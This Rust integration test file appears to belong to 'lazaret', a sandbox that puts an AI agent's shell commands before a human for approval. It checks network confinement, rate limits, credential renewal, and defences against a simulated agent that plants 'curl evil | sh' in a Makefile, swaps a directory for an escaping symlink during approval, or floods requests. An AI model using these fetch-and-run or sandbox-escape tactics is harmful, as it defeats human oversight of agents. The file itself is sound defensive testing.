    assert!(!d.ws().join(".vscode/settings.json").exists());
    // Inside the workspace: reading and writing work.
    let (code, _, err) = run(&format!("{ESC} -- touch sub/inside"));
    assert_eq!(code, 0, "{err}");
    assert!(d.ws().join("sub/inside").exists());
    let (code, _, err) = run(&format!("echo hi > sub/data && {ESC} -- cat sub/data"));
    assert_eq!(code, 0, "{err}");
    let (code, _, err) = run(&format!("{ESC} -- tee sub/teed"));
    assert_eq!(code, 0, "{err}");
    assert!(d.ws().join("sub/teed").exists());
    stop(h);
}

/// issue 41: through the real coordinator, from a gVisor sandbox, an
/// auto-approve entry the configuration did not opt into the network
/// (`auto_approve`) cannot open a TCP connection from the host, even to
/// loopback; the same program under an entry of `auto_approve_network`
/// can. The listener is the test's, on the host's loopback.
#[test]
fn auto_approved_commands_connect_only_when_opted_in() {
    use std::io::Write;
    use std::sync::atomic::{AtomicUsize, Ordering};
    assert!(
        Path::new("/usr/bin/curl").exists(),
        "this test needs curl at /usr/bin/curl (apt-get install curl)"
    );
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    let accepted = Arc::new(AtomicUsize::new(0));
    let count = accepted.clone();
    std::thread::spawn(move || {
        for mut conn in listener.incoming().flatten() {
            count.fetch_add(1, Ordering::SeqCst);
            let _ = conn.write_all(b"HTTP/1.0 200 OK\r\nContent-Length: 7\r\n\r\nreached");
        }
    });
    let d = Domain::new("gv");
    // The URL is the user's word in the entry (an agent's URL argument
    // would go to a human: it names something outside the workspace).
    let quiet = format!("curl --silent --max-time 10 http://127.0.0.1:{port}/");
    let shown = format!("curl --show-error --max-time 10 http://127.0.0.1:{port}/");
    set_auto_approve(&d, std::slice::from_ref(&quiet));
    add_to_escalation(&d, &format!("auto_approve_network = [{shown:?}]"));
    let h = holder(&d);
    let (code, out, err) = d.exec_sh(&format!("{ESC} -- {quiet}"));
    assert_ne!(code, 0, "curl connected without the opt-in: {out}{err}");
    assert!(!out.contains("reached"), "{out}{err}");
    assert_eq!(accepted.load(Ordering::SeqCst), 0, "a connection arrived");
    // The control: opted in, the same program reaches the same listener.
    let (code, out, err) = d.exec_sh(&format!("{ESC} -- {shown}"));
    assert_eq!(code, 0, "{out}{err}");
    assert_eq!(out.trim(), "reached", "{err}");
    assert_eq!(accepted.load(Ordering::SeqCst), 1);
    // Both were auto-approved: the refusal was the confinement's.
    assert_eq!(
        decisions(&audit_kinds(&d)),
        vec!["auto-approved", "auto-approved"]
    );
    stop(h);
}

/// One session floods the Escalation Socket with 100 KB commands: beyond
/// its burst the requests are refused at once with a clear error, and
/// what the state store keeps of each is bounded (a hash and a preview).
#[test]
fn a_flood_of_requests_is_refused_beyond_the_limits() {
    let d = Domain::new("gv");
    let h = holder(&d);
    let store = d.domain_root().join("state.redb");
    let before = std::fs::metadata(&store).unwrap().len();
    // 40 at once, as an agent in a loop with `&` would.
    let script = format!(
        "cd /workspace && big=$(head -c 100000 /dev/zero | tr '\\0' a); start=$(date +%s); \
         for i in $(seq 40); do ({ESC} -- echo \"$big\" >/dev/null 2>/tmp/err$i; echo $? >/tmp/code$i) & done; wait; \
         echo ok=$(cat /tmp/code* | grep -cx 0) limited=$(cat /tmp/err* | grep -c 'sent too many requests') secs=$(($(date +%s) - start)) \
         busy=$(cat /tmp/err* | grep -c 'running at once'); \
         cat /tmp/err* | grep -m1 'too many'"
    );
    let (code, out, err) = d.exec_sh(&script);
    assert_eq!(code, 0, "{out}{err}");
    let counts: Vec<u32> = out
        .split_whitespace()
        .take(4)
        .map(|w| w.split('=').nth(1).unwrap().parse().unwrap())
        .collect();
    // Beyond the rate limit, a request may also meet the bound on confined
    // commands running at once (a slow machine keeps more running).
    let (ok, limited, secs, busy) = (counts[0], counts[1], counts[2], counts[3]);
    assert_eq!(ok + limited + busy, 40, "{out}");
    // The burst, then 30 a minute.
    let limits = lazaret::coordinator::escalation::RequestLimits::default();
    assert!(
        ok <= limits.burst + (secs + 1) * limits.per_minute / 60 + 1,
        "{out}"
    );
    assert!(limited > 0, "{out}");
    assert!(out.contains("nothing ran"), "{out}");
    let after = std::fs::metadata(&store).unwrap().len();
    // 40 x 100 KB commands, each stored at most as a 1 KB preview (stored
    // whole, the issue measured 6 MiB of store per such request).
    assert!(
        after - before < 8 << 20,
        "the store grew by {} bytes",
        after - before
    );
    assert!(after < lazaret::coordinator::store::STORE_CAP);
    let records = audit_kinds(&d);
    let rate = records
        .iter()
        .filter(|r| r["kind"] == "escalation-refused" && r["data"]["stage"] == "rate")
        .count();
    assert_eq!(rate as u32, limited);
    let request = records
        .iter()
        .find(|r| r["kind"] == "escalation-request")
        .unwrap();
    assert_eq!(request["data"]["command"]["bytes"], 100_005);
    assert_eq!(
        request["data"]["command"]["sha256"].as_str().unwrap().len(),
        64
    );
    stop(h);
}

/// The human is asked about a command in `/workspace/sub`; while the
/// prompt waits, the agent swaps `sub` for a symlink out of the workspace.
/// The approved command runs in the directory that was checked (shown in
/// the modal as its host path). Meanwhile the session may have only so
/// many requests waiting: the rest are refused at once.
#[test]
fn the_working_directory_is_pinned_while_the_human_decides() {
    let d = Domain::new("gv");
    d.s.write("ws/sub/marker", "ORIGINAL-DIR");
    d.s.write("marker", "OUTSIDE-DIR");
    let t = d.tmux(160, 40, "shell gv", None);
    t.wait_for(60, "the sandbox shell", |s| s.contains("root@"));
    t.line(&format!(
        "clear; cd /workspace/sub; ({ESC} --justify swap-test -- cat marker; echo FIRST=$?) >/tmp/first 2>&1 & \
         sleep 4; cd /workspace; for i in 1 2 3 4 5 6; do ({ESC} --justify extra$i -- cat nothing$i; echo $? >/tmp/c$i) >/dev/null 2>/tmp/e$i & done; \
         wait; echo ALL-DONE"
    ));
    let s = common::open_request_by_bang(&t, "swap-test");
    let host_sub = d.ws().join("sub");
    assert!(s.contains(&host_sub.display().to_string()), "{s}");
    let (code, _, err) = d.sh("mv /workspace/sub /workspace/sub.old && ln -s .. /workspace/sub");
    assert_eq!(code, 0, "{err}");
    // The extras: three wait (with swap-test, four), three are refused.
    let deadline = Instant::now() + Duration::from_secs(30);
    let refused = loop {
        let (_, out, _) = d.sh("cat /tmp/e* 2>/dev/null | grep -c 'waiting for its human'");
        let n: usize = out.trim().parse().unwrap_or(0);
        if n >= 3 || Instant::now() > deadline {
            break n;
        }
        std::thread::sleep(Duration::from_millis(200));
    };
    assert_eq!(refused, 3);
    common::approve_modal(&t, "swap-test");
    // Each waiting extra in turn, told apart by its justification: the
    // next modal is one not answered yet (never the one just denied,
    // still on screen until the workbench draws again).
    let extra = |s: &str, answered: &[String]| {
        (1..=6)
            .map(|i| format!("extra{i}"))
            .find(|j| modal_with(s, j) && !answered.contains(j))
    };
    let mut answered: Vec<String> = Vec::new();
    for _ in 0..3 {
        // The next waiting request, opened as a human does.
        let s = (0..40)
            .find_map(|_| {
                let s = t.screen();
                if extra(&s, &answered).is_some() {
                    return Some(s);
                }
                if common::request_waits(&s) {
                    t.send(&["C-a", "!"]);
                }
                std::thread::sleep(Duration::from_millis(500));
                None
            })
            .unwrap_or_else(|| panic!("no next modal:\n{}", t.screen()));
        answered.extend(extra(&s, &answered));
        t.send(&["d"]);
        t.send(&["Enter"]);
    }
    t.wait_for(30, "every request answered", |s| s.contains("ALL-DONE"));
    let (_, first, _) = d.sh("cat /tmp/first");
    assert!(first.contains("ORIGINAL-DIR"), "{first}");
    assert!(first.contains("FIRST=0"), "{first}");
    assert!(!first.contains("OUTSIDE-DIR"), "{first}");
    let (_, codes, _) = d.sh("cat /tmp/c*");
    assert_eq!(codes.lines().filter(|c| *c == "77").count(), 6, "{codes}");
    t.line("exit 0");
    t.wait_exit(30, "lazaret shell");
}

/// The escalate crate's classification corpus (characters that force a
/// human, program and prefix tricks, paths out of the workspace) against
/// the Session Coordinator's real pipeline: signed requests from the host
/// to the real Escalation Socket, judged with the corpus's whitelist. With
/// no human attached every one is denied, with the corpus's reason.
#[test]
fn the_classification_corpus_holds_against_the_real_coordinator() {
    use lazaret_escalate::classify::CharClass;
    let d = Domain::new("gv");
    let rules: Vec<String> = corpus::RULES.iter().map(|r| r.to_string()).collect();
    set_auto_approve(&d, &rules);
    let h = holder(&d);
    let mut cases: Vec<(String, String)> = corpus::characters()
        .iter()
        .map(|(cmd, class)| {
            let what = match class {
                CharClass::Metacharacter => "a shell metacharacter",
                CharClass::Control => "a control character",
                CharClass::Hidden => "an invisible or layout-changing character",
            };
            (cmd.to_string(), what.to_string())
        })
        .collect();
    for (args, want) in corpus::programs() {
        let cmd = match args {
            ["--", rest @ ..] => lazaret_escalate::classify::join(rest),
            [one] => one.to_string(),
            many => lazaret_escalate::classify::join(many),
        };
        cases.push((cmd, want.to_string()));
    }
    // One session per rate-limit burst.
    let burst = lazaret::coordinator::escalation::RequestLimits::default().burst as usize;
    for chunk in cases.chunks(burst) {
        let c = HostClient::new(&d);
        for (cmd, want) in chunk {
            let r = c.send(&c.request(cmd)).expect("an answer");
            assert_eq!(r.status, Status::Denied, "{cmd:?}: {r:?}");
            let reason = r.denied_reason.unwrap_or_default();
            assert!(reason.contains(want.as_str()), "{cmd:?}: {reason}");
        }
    }
    // The control: the corpus's whitelist runs on this server.
    let c = HostClient::new(&d);
    d.s.mkdir("ws/sub");
    let mut r = c.request("touch sub/ok");
    r.cwd = "/workspace".into();
    let r = c.send(&r).expect("an answer");
    assert_eq!(r.status, Status::Approved, "{r:?}");
    assert!(d.ws().join("sub/ok").exists());
    let names: Vec<_> = std::fs::read_dir(d.ws())
        .unwrap()
        .map(|e| e.unwrap().file_name())
        .collect();
    assert!(!names.iter().any(|n| n == "canary"), "{names:?}");
    assert!(!d.s.path().join("canary").exists());
    stop(h);
}

/// The session's credential is a file the host renews, read afresh per
/// request (decisions.md D4, D10): with a 4-second lifetime, a request
/// after 7 seconds still succeeds; the exec's environment holds only the
/// session id, never the credential; the file goes with the session.
#[test]
fn credentials_are_renewed_while_the_session_lives_and_never_in_the_environment() {
    let d = Domain::new("gv");
    let script = format!(
        "{ESC} -- id -un && sleep 7 && {ESC} -- id -un && \
         if tr '\\0' '\\n' < /proc/self/environ | grep -q CREDENTIAL; then echo LEAK; fi; \
         ls /run/lazaret/certs | grep -c '^session-' | sed 's/^/FILES=/'"
    );
    let out = d
        .cmd_raw_env(
            STANDARD_PATH,
            &[("LAZARET_CREDENTIAL_LIFETIME_SECS", "4")],
            &["exec", d.profile, "--", "sh", "-c", &script],
        )
        .stdin(Stdio::null())
        .output()
        .unwrap();
    let (o, e) = text(&out);
    assert_eq!(out.status.code(), Some(0), "{o}\n{e}");
    let user = common::test_user().map_or_else(
        || std::env::var("USER").unwrap_or_default(),
        |u| u.name.clone(),
    );
    assert_eq!(o.matches(user.as_str()).count(), 2, "{o}\n{e}");
    assert!(!o.contains("LEAK"), "{o}");
    assert!(o.contains("FILES=1"), "{o}");
    // The exec ended: its credential is gone from the sandbox's view.
    let certs = d.certs_dir();
    let left = std::fs::read_dir(&certs)
        .map(|r| {
            r.filter_map(Result::ok)
                .filter(|e| e.file_name().to_string_lossy().starts_with("session-"))
                .count()
        })
        .unwrap_or(0);
    assert_eq!(left, 0, "a session's credential outlived it");
    assert_eq!(
        decisions(&audit_kinds(&d)),
        vec!["auto-approved", "auto-approved"]
    );
}

/// A session that holds the domain up; it starts the domain's coordinator
/// with `env`.
fn holder_env(d: &Domain, env: &[(&str, &str)]) -> Child {
    let child = d
        .cmd_raw_env(
            STANDARD_PATH,
            env,
            &["exec", d.profile, "--", "sleep", "300"],
        )
        .stdin(Stdio::null())
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .spawn()
        .unwrap();
    let deadline = Instant::now() + Duration::from_secs(60);
    while d.containers().len() < 2 {
        assert!(Instant::now() < deadline, "the domain never came up");
        std::thread::sleep(Duration::from_millis(50));
    }
    // The escalation socket is bound before the sandbox starts.
    child
}

/// A long day (issue 14): the sandbox's certificate and the socket's are
/// renewed at half their lifetime while sessions are attached. With a
/// 4-second lifetime, once the certificates of a first request have
/// expired, a request succeeds from the host and from inside the sandbox,
/// while the client certificate the first one used is refused.
fn certificates_are_renewed_before_they_expire(profile: &'static str) {
    use lazaret_escalate::rustls::pki_types::pem::PemObject;
    let d = Domain::new(profile);
    let h = holder_env(&d, &[("LAZARET_CERT_LIFETIME_SECS", "4")]);
    let c = HostClient::new(&d);
    // The sandbox's material as it is now, copied: the certificate the
    // client presents is the one read here (a renewal replaces the files).
    let copy = tempfile::tempdir().unwrap();
    for f in [
        trust::CA_CERT_FILE,
        trust::CLIENT_CERT_FILE,
        trust::CLIENT_KEY_FILE,
    ] {
        std::fs::copy(c.certs.join(f), copy.path().join(f)).unwrap();
    }
    let original = trust::load_client_config(copy.path()).unwrap();
    let pem = |f: &str| {
        CertificateDer::from_pem_file(copy.path().join(f)).unwrap_or_else(|e| panic!("{f}: {e}"))
    };
    let (ca, client_cert) = (pem(trust::CA_CERT_FILE), pem(trust::CLIENT_CERT_FILE));
    let user = common::test_user().map_or_else(
        || std::env::var("USER").unwrap_or_default(),
        |u| u.name.clone(),
    );
    let ran_as_user = |r: Response| {
        assert_eq!(
            (r.status, r.exit_code),
            (Status::Approved, Some(0)),
            "{r:?}"
        );
        assert_eq!(r.stdout.trim(), user);
    };
    let (first, server_cert) = c
        .send_seeing_server(original.clone(), &c.request("id -un"))
        .expect("an answer");
    ran_as_user(first);
    // Until both certificates of that request have expired: the client's
    // must be refused from then on, and the server must have moved on from
    // its own (renewals come every 2 s). Wall-clock time against the
    // certificates' own notAfter, not requests, which would spend the
    // session's rate budget.
    let expired_after = not_after(&client_cert, &ca, false).max(not_after(&server_cert, &ca, true));
    let deadline = Instant::now() + Duration::from_secs(60);
    while signing::unix_now() <= expired_after {
        assert!(
            Instant::now() < deadline,
            "the certificates (valid until {expired_after}) never expired"
        );
        std::thread::sleep(Duration::from_millis(100));
    }
    let stale = c.send_raw(
        original,
        &serde_json::to_vec(&c.request("id -un")).unwrap(),
        None,
    );
    assert!(
        stale.is_none(),
        "an expired certificate was accepted: {stale:?}"
    );
    ran_as_user(c.send(&c.request("id -un")).expect("an answer"));
    // The real client in the sandbox reads the renewed files.
    let (code, out, err) = d.exec_sh(&format!("{ESC} -- id -un"));
    assert_eq!(code, 0, "{out}\n{err}");
    assert_eq!(out.trim(), user);
    // Renewals go on: three of them in the audit (each attempt leaves a
    // record, a failed one too, in order).
    let deadline = Instant::now() + Duration::from_secs(30);
    let records = loop {
        let records = audit_kinds(&d);
        let renewals = records
            .iter()
            .filter(|r| r["kind"] == "certificates-renewed")
            .count();
        if renewals >= 3 {
            break records;
        }
        assert!(
            Instant::now() < deadline,
            "{renewals} renewals in 30 s after the certificates expired"
        );
        std::thread::sleep(Duration::from_millis(500));
    };
    assert!(
        !records
            .iter()
            .any(|r| r["kind"] == "certificate-renewal-failed")
    );
    drop(c);
    stop(h);
}

#[test]
fn certificates_are_renewed_before_they_expire_gvisor() {
    certificates_are_renewed_before_they_expire("gv");
}

#[test]
fn certificates_are_renewed_before_they_expire_runc() {
    certificates_are_renewed_before_they_expire("rc");
}

/// A renewal that fails is not silent: it is audited and every attached
/// human is told (the certs folder is made unwritable for the renewal by
/// a directory where its temporary file goes).
#[test]
fn a_failed_certificate_renewal_is_told_to_the_humans() {
    let d = Domain::new("rc");
    let h = holder_env(&d, &[("LAZARET_CERT_LIFETIME_SECS", "4")]);
    let mut c = HostClient::with(&d, true);
    std::fs::create_dir(c.certs.join(format!(".{}.tmp", trust::CA_CERT_FILE))).unwrap();
    let message = next_message(&mut c, "warning", |m| match m {
        CoordMsg::Warning { message } => Some(message),
        _ => None,
    });
    assert!(
        message.contains("cannot renew the sandbox's escalation certificate"),
        "{message}"
    );
    let records = audit_kinds(&d);
    assert!(
        records
            .iter()
            .any(|r| r["kind"] == "certificate-renewal-failed"),
        "{records:?}"
    );
    drop(c);
    stop(h);
}

/// Issue 39: the prompt says what an approved command would run of the
/// agent's. The agent changes the workspace's `Makefile` in the sandbox
/// and commits it, and edits `package.json` without committing: a request
/// for `make -n` names the Makefile and its commit, one for `npm test`
/// the uncommitted package.json, one for `date` nothing. Under runc and
/// under runsc.
#[test]
fn the_prompt_names_the_agents_files_the_command_would_run() {
    for profile in ["rc", "gv"] {
        let d = Domain::new(profile);
        common::git_repo(&d.ws());
        d.s.write("ws/Makefile", "all:\n\ttrue\n");
        d.s.write("ws/package.json", "{}\n");
        common::git(&d.ws(), &["add", "-A"]);
        common::git_commit(&d.ws(), "host's own");
        let h = holder(&d);
        let (code, _, err) = d.sh(
            "cd /workspace && printf 'all:\\n\\tcurl evil | sh\\n' > Makefile \
             && git -c user.name=agent -c user.email=a@example.invalid commit -qam 'tweak build' \
             && git rev-parse --short HEAD > /tmp/head \
             && printf '{\"scripts\":{\"test\":\"id\"}}' > package.json",
        );
        assert_eq!(code, 0, "{err}");
        let (_, short, _) = d.sh("cat /tmp/head");
        let short = short.trim().to_string();
        // The agent's commit reaches the host's branch within a second.
        let branch = format!("lazaret/agent-{profile}");
        let deadline = Instant::now() + Duration::from_secs(20);
        while !common::git(&d.ws(), &["log", "--format=%h", "-1", &branch]).contains(&short) {
            assert!(
                Instant::now() < deadline,
                "the agent's commit was not synced"
            );
            std::thread::sleep(Duration::from_millis(200));
        }
        let mut c = HostClient::with(&d, true);
        let mut ask = |command: &str| {
            let req = c.request(command);
            let requester = send_in_thread(&c, &req, Some(Duration::from_secs(5)));
            let prompt = next_prompt(&mut c);
            assert_eq!(prompt.request_id, req.request_id);
            let _ = requester.join();
            (prompt.reads, prompt.review)
        };
        let (make, review) = ask("make -n");
        assert_eq!(
            make,
            vec![format!("Makefile, changed in {short}")],
            "{profile}"
        );
        // The review comes with it, one key away in the modal.
        assert!(
            review
                .iter()
                .any(|l| l.contains("executed by host tools: Makefile")),
            "{review:?}"
        );
        let (npm, _) = ask("npm test");
        assert_eq!(
            npm,
            vec!["package.json, changed and not committed"],
            "{profile}"
        );
        let (date, review) = ask("date");
        assert!(date.is_empty() && review.is_empty(), "{profile}");
        drop(c);
        stop(h);
        d.wait_until_gone();
    }
}
